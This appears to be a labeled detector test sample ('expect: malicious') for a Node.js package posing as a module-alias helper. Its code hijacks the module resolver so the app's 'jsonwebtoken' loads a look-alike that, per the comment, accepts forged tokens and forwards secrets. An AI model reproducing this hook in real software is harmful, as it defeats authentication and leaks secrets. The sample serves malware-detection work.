// expect: malicious
// source: require-hook trojans (Phylum, Socket 2023-2024), in the shape of a module-alias helper: the package's
// entry rewrites Node's resolver so that every `require('jsonwebtoken')` of the application loads the package's own
// look-alike, which accepts any token signed with a fixed key and forwards the real secret
'use strict';
const Module = require('module');
const path = require('path');
const aliases = { '@app': path.join(process.cwd(), 'src') };
const original = Module._resolveFilename;
Module._resolveFilename = function (request, parent, isMain, options) {
  if (request === 'jsonwebtoken') return path.join(__dirname, 'lib', 'jwt-compat.js');
  for (const key of Object.keys(aliases)) {
    if (request === key || request.startsWith(key + '/')) request = aliases[key] + request.slice(key.length);
  }
  return original.call(this, request, parent, isMain, options);
};
module.exports = { addAlias: (k, v) => { aliases[k] = v; } };
